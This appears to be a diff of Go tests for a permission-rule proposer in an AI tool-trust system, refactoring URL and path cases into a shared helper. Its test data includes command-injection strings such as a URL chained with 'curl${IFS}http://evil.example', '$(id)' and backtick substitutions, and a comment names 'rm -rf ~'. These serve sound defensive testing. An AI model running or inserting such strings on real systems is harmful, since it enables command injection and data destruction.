@@ -322,19 +322,12 @@ func TestProposeRule_InexactIntegerLeftOpenAndNamed(t *testing.T) {
 	}
 }
 
-// Only a value that is a URL (a web scheme, then //) is proposed by its host: a
-// command or a text that holds a URL somewhere is a string, proposed by equals, so
-// that the rule never allows other commands that happen to read as a URL on that
-// host.
-func TestProposeRule_HostOnlyForAURL(t *testing.T) {
+// wantCmdProposedBy checks, for each case, that ProposeRule proposes a "cmd"
+// argument of that value by the matcher want (host, glob, equals).
+func wantCmdProposedBy(t *testing.T, cases []struct{ value, want string }) {
+	t.Helper()
 	tool := session.ToolInfo{Ref: trust.Ref{Server: "s", Tool: "t"}}
-	for _, tc := range []struct{ value, want string }{
-		{"https://docs.python.org/3/", "host"},
-		{"HTTP://example.com/x", "host"},
-		{"example.com/x;curl${IFS}http://evil.example", "equals"},
-		{"see:https://example.com", "equals"},
-		{"//example.com/x?u=http://a", "equals"},
-	} {
+	for _, tc := range cases {
 		raw, _ := json.Marshal(map[string]string{"cmd": tc.value})
 		prop := session.ProposeRule(tool, raw)
 		if _, ok := prop.When["cmd"][tc.want]; !ok {
@@ -343,12 +336,25 @@ func TestProposeRule_HostOnlyForAURL(t *testing.T) {
 	}
 }
 
+// Only a value that is a URL (a web scheme, then //) is proposed by its host: a
+// command or a text that holds a URL somewhere is a string, proposed by equals, so
+// that the rule never allows other commands that happen to read as a URL on that
+// host.
+func TestProposeRule_HostOnlyForAURL(t *testing.T) {
+	wantCmdProposedBy(t, []struct{ value, want string }{
+		{"https://docs.python.org/3/", "host"},
+		{"HTTP://example.com/x", "host"},
+		{"example.com/x;curl${IFS}http://evil.example", "equals"},
+		{"see:https://example.com", "equals"},
+		{"//example.com/x?u=http://a", "equals"},
+	})
+}
+
 // Only a value that reads as a path alone is proposed by its folder: a command line
 // that starts with a program's path ("/usr/bin/ls -la") is a string, so that the rule
 // never allows "/usr/bin/rm -rf ~" beside it.
 func TestProposeRule_FolderOnlyForAPath(t *testing.T) {
-	tool := session.ToolInfo{Ref: trust.Ref{Server: "s", Tool: "t"}}
-	for _, tc := range []struct{ value, want string }{
+	wantCmdProposedBy(t, []struct{ value, want string }{
 		{"/srv/project/a.txt", "glob"},
 		{"~/notes/today.md", "glob"},
 		{"/usr/bin/ls -la", "equals"},
@@ -356,13 +362,7 @@ func TestProposeRule_FolderOnlyForAPath(t *testing.T) {
 		{"/tmp/$(id)", "equals"},
 		{"/tmp/a|b", "equals"},
 		{"/tmp/`id`", "equals"},
-	} {
-		raw, _ := json.Marshal(map[string]string{"cmd": tc.value})
-		prop := session.ProposeRule(tool, raw)
-		if _, ok := prop.When["cmd"][tc.want]; !ok {
-			t.Errorf("%q proposed as %s, want %s", tc.value, session.FormatWhen(prop.When), tc.want)
-		}
-	}
+	})
 }
 
 // A URL with a query of several parameters is still proposed by its host.
